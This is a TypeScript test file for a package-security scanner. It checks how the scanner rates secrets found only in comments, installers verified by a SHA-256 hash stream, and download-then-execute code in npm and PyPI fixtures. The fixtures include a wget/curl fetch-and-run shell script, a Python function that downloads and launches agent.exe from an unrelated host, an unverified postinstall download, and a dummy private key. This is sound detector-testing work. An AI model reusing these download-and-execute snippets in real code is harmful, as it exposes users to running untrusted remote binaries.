/**
 * Causes of honest CAUTION found on the committed npm samples (bench/npm-top-sample.tsv,
 * bench/npm-install-time-sample.tsv) and pypi-benign/, each as a general statement with its real
 * case, variants and the look-alike that must still be flagged:
 *
 *  - a private key or token that only a comment or doc string holds (an API reference's example
 *    request, the shape of wrangler's bundled SDK docs) is sample text: LOW, not a MEDIUM leak;
 *  - a SHA-2 check written as a hash stream (`createHash('sha256').setEncoding('hex')` the download
 *    is piped into, then `.read()`), in its transpiled CommonJS form `(0, crypto_1.createHash)(…)`
 *    (snyk's installer), is a digest check like `.digest()`;
 *  - a download → execute pattern the parser cannot connect, in runtime library code that runs only
 *    when a user calls it (huggingface_hub's sandbox helper), is LOW; at import time it stays MEDIUM,
 *    and a connected flow stays HIGH wherever it is.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analyzeArchive, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
import type { RegistrySource } from '../../shared/packages/types.js';
import { buildTgz, npmTgz } from '../fixtures/archives/build.js';

const REGISTRY = 'registry.example.org';
const level = (a: ArchiveAnalysis, registry: RegistrySource = 'npm') =>
  packageVerdict(reviewPackage({ registry, name: 'x', version: '1.0.0', analysis: a, integrity: { ok: true, expected: 'x', actual: 'x' }, advisories: { status: 'ok', advisories: [] } })).securityLevel;
const npm = (files: Record<string, string>) => analyzeArchive(npmTgz(files), { kind: 'tgz', registry: 'npm', registryHosts: [REGISTRY] });
const pypi = (files: Record<string, string>) => analyzeArchive(buildTgz(Object.entries(files).map(([path, data]) => ({ path, data }))), { kind: 'tgz', registry: 'pypi' });

// An RSA key body long enough for the secret rule; made up, it opens nothing.
const KEY = `-----BEGIN RSA PRIVATE KEY-----\\nMIIEowIBAAKCAQEAwQHoetcl9+5ikGzV6cMzWtWPJHqXT3wpbEkRU9Yz7lgvddmG\\ndtcGbg/1CGZu0jJGkMoppoUo4c3dts3iwqRYmBikUP77wwY2QGmDZw2FvkJCJlKn\\n-----END RSA PRIVATE KEY-----`;
const PKG = JSON.stringify({ name: 'cloud-sdk', version: '1.0.0', main: 'index.js' });

// ---------------------------------------------------------------------------------------------
// A secret only in a comment

test('a private key in a JSDoc @example of a bundled SDK (the wrangler case): LOW, not CAUTION', async () => {
  const a = await npm({
    'package.json': PKG,
    'index.js': `class Certificates {
  /**
   * Upload a custom certificate.
   *
   * @example
   * \`\`\`ts
   * const c = await client.customCertificates.create({
   *   certificate: '-----BEGIN CERTIFICATE-----\\nMIIDtTCC...',
   *   private_key: '${KEY}',
   * });
   * \`\`\`
   */
  create(params) { return this._client.post('/custom_certificates', { body: params }); }
}
module.exports = { Certificates };
`,
  });
  const f = a.findings.find((x) => x.category === 'secret');
  assert.ok(f, JSON.stringify(a.findings.map((x) => x.ruleId)));
  assert.is(f!.ruleId, 'hardcoded_secret_comment');
  assert.is(f!.severity, 'LOW');
  assert.not.ok(a.findings.some((x) => x.ruleId === 'hardcoded_secret'));
  assert.not.equal(level(a), 'CAUTION');
});

test('variants: a `//` line comment in JavaScript and a Python doc string are sample text too', async () => {
  const js = await npm({ 'package.json': PKG, 'index.js': `// private_key: '${KEY}'\nmodule.exports = (c) => c.post('/certs');\n` });
  assert.ok(js.findings.some((x) => x.ruleId === 'hardcoded_secret_comment' && x.severity === 'LOW'));
  assert.not.ok(js.findings.some((x) => x.ruleId === 'hardcoded_secret'));
  const py = await pypi({
    'cloudsdk-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: cloudsdk\nVersion: 1.0\n',
    'cloudsdk-1.0/cloudsdk/certs.py': `def create(client, key):\n    """Upload a certificate.\n\n    Example::\n\n        create(client, key='${KEY}')\n    """\n    return client.post('/certs', key)\n`,
  });
  assert.ok(py.findings.some((x) => x.ruleId === 'hardcoded_secret_comment' && x.severity === 'LOW'), JSON.stringify(py.findings.map((x) => x.ruleId)));
  assert.not.equal(level(py, 'pypi'), 'CAUTION');
});

test('look-alike: the same key in a string the code uses stays a MEDIUM leak (CAUTION)', async () => {
  const a = await npm({ 'package.json': PKG, 'index.js': `const PRIVATE_KEY = '${KEY}';\nmodule.exports = () => PRIVATE_KEY;\n` });
  const f = a.findings.find((x) => x.ruleId === 'hardcoded_secret');
  assert.ok(f, JSON.stringify(a.findings.map((x) => x.ruleId)));
  assert.is(f!.severity, 'MEDIUM');
  assert.is(level(a), 'CAUTION');
  // In code and in a comment of the same file: the code's copy decides.
  const both = await npm({ 'package.json': PKG, 'index.js': `// example: '${KEY}'\nconst PRIVATE_KEY = '${KEY}';\nmodule.exports = () => PRIVATE_KEY;\n` });
  assert.ok(both.findings.some((x) => x.ruleId === 'hardcoded_secret' && x.severity === 'MEDIUM'));
});

// ---------------------------------------------------------------------------------------------
// A digest check written as a hash stream

const snykLike = (check: boolean, host: string) => `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const fs = require("fs");
const https = require("https");
const crypto_1 = require("crypto");
function downloadExecutable(downloadUrl, filename, filenameShasum) {
    return new Promise(function (resolve) {
        const temp = filename + '.' + Date.now();
        const fileStream = fs.createWriteStream(temp);
        ${check ? "const shasum = (0, crypto_1.createHash)('sha256').setEncoding('hex');" : ''}
        fileStream.on('close', () => {
            ${check ? "const actualShasum = shasum.read();\n            if (filenameShasum && actualShasum != filenameShasum) return resolve(Error('Shasum comparison failed!'));" : ''}
            fs.renameSync(temp, filename);
            fs.chmodSync(filename, 0o755);
            resolve(undefined);
        });
        https.get(downloadUrl, (res) => {
            ${check ? 'res.pipe(shasum);' : ''}
            res.pipe(fileStream);
        });
    });
}
exports.downloadExecutable = downloadExecutable;
exports.baseUrl = 'https://${host}/cli';
`;
const cliPkg = JSON.stringify({ name: 'snyk-like', version: '1.0.0', repository: { type: 'git', url: 'https://github.com/snyk-like/snyk-like.git' }, scripts: { postinstall: 'node wrapper_dist/bootstrap.js exec' } });
const wrapper = (check: boolean, host: string) =>
  npm({
    'package.json': cliPkg,
    'wrapper_dist/bootstrap.js': "const common = require('./common');\ncommon.downloadExecutable(common.baseUrl + '/v1/snyk-linux', __dirname + '/snyk-linux', process.env.SUM);\n",
    'wrapper_dist/common.js': snykLike(check, host),
  });

test('a transpiled installer checking the download through a SHA-256 hash stream, from the package’s own host: LOW, MONITORED', async () => {
  const a = await wrapper(true, 'downloads.snyk-like.io');
  const f = a.findings.find((x) => x.ruleId === 'install_script_own_binary');
  assert.ok(f, JSON.stringify(a.findings.map((x) => `${x.ruleId}:${x.severity}`)));
  assert.is(f!.severity, 'LOW');
  assert.match(f!.message, /SHA-2/);
  assert.is(level(a), 'MONITORED');
});

test('look-alikes stay CAUTION: the same installer without the hash stream; with it, from a host that is not the package’s', async () => {
  const noCheck = await wrapper(false, 'downloads.snyk-like.io');
  assert.ok(noCheck.findings.some((x) => x.ruleId === 'install_script_network' && x.severity === 'MEDIUM'), JSON.stringify(noCheck.findings.map((x) => x.ruleId)));
  assert.is(level(noCheck), 'CAUTION');
  const foreign = await wrapper(true, 'cdn.unrelated-files.net');
  assert.not.ok(foreign.findings.some((x) => x.ruleId === 'install_script_own_binary'));
  assert.is(level(foreign), 'CAUTION');
});

// ---------------------------------------------------------------------------------------------
// An unconnected download → execute pattern in runtime library code

const INFO = 'Metadata-Version: 2.1\nName: hubclient\nVersion: 1.0\n';
// The shape of huggingface_hub's sandbox helper: a shell script text the library sends to a remote
// sandbox when the user asks for one; nothing in the module connects a download to a local process.
const SANDBOX = `import subprocess

BOOTSTRAP = """
d=/tmp/sbx-server
if command -v wget >/dev/null 2>&1; then wget -q -O "$d" "$SBX_SERVER_URL"; else curl -fsSL -o "$d" "$SBX_SERVER_URL"; fi
chmod +x "$d" && "$d" &
"""


def start_sandbox(runner):
    return runner.exec(BOOTSTRAP)


def local_version():
    return subprocess.run(["git", "--version"], capture_output=True).stdout
`;

test('a download → execute text that the parsed code does not connect, in a runtime module: LOW, not CAUTION', async () => {
  const a = await pypi({ 'hubclient-1.0/PKG-INFO': INFO, 'hubclient-1.0/hubclient/__init__.py': '__version__ = "1.0"\n', 'hubclient-1.0/hubclient/_sandbox.py': SANDBOX });
  const f = a.findings.find((x) => x.ruleId === 'download_execute');
  assert.ok(f, JSON.stringify(a.findings.map((x) => x.ruleId)));
  assert.is(f!.role, 'runtime');
  assert.is(f!.severity, 'LOW');
  assert.not.equal(level(a, 'pypi'), 'CAUTION');
});

test('look-alikes: the same text in the package __init__ (runs at import) stays MEDIUM; a connected download-then-run stays HIGH in a runtime module', async () => {
  const imported = await pypi({ 'hubclient-1.0/PKG-INFO': INFO, 'hubclient-1.0/hubclient/__init__.py': SANDBOX });
  const f = imported.findings.find((x) => x.ruleId === 'download_execute');
  assert.ok(f);
  assert.is(f!.severity, 'MEDIUM');
  assert.is(level(imported, 'pypi'), 'CAUTION');

  const connected = await pypi({
    'hubclient-1.0/PKG-INFO': INFO,
    'hubclient-1.0/hubclient/__init__.py': '__version__ = "1.0"\n',
    'hubclient-1.0/hubclient/update.py': `import os, subprocess, urllib.request

def update():
    data = urllib.request.urlopen("http://updates.unrelated-files.net/agent.exe").read()
    path = os.path.join(os.environ["TEMP"], "agent.exe")
    with open(path, "wb") as f:
        f.write(data)
    subprocess.Popen([path])
`,
  });
  const g = connected.findings.find((x) => x.ruleId === 'download_execute');
  assert.ok(g, JSON.stringify(connected.findings.map((x) => `${x.ruleId}:${x.severity}`)));
  assert.ok(g!.severity === 'HIGH' || g!.severity === 'CRITICAL', g!.severity);
});

test.run();
